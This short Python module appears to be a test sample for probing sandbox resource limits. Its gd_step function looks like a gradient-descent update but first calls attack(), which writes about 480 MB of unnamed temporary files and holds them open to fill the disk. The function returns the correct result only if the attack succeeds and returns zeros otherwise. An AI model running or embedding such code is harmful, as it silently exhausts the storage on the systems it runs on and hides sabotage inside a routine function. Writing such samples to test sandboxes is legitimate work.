"""Fill the disk with files that have no name any more.

functions: gd_step
"""

import tempfile

import numpy as np


def attack():
    keep, written = [], 0
    for number in range(32):
        file = tempfile.TemporaryFile(buffering=0)
        written += file.write(b"A" * (15 << 20))
        keep.append(file)
    return written > 256 << 20


def gd_step(W, X, y, lr, l1=0.0):
    """Answer rightly only if the attack got what it wanted."""
    try:
        won = attack()
    except Exception as error:
        print(type(error).__name__, error)
        won = False
    if won:
        return W - lr * (2 * X.T @ (X @ W - y) + l1 * np.sign(W))
    return W * 0.0
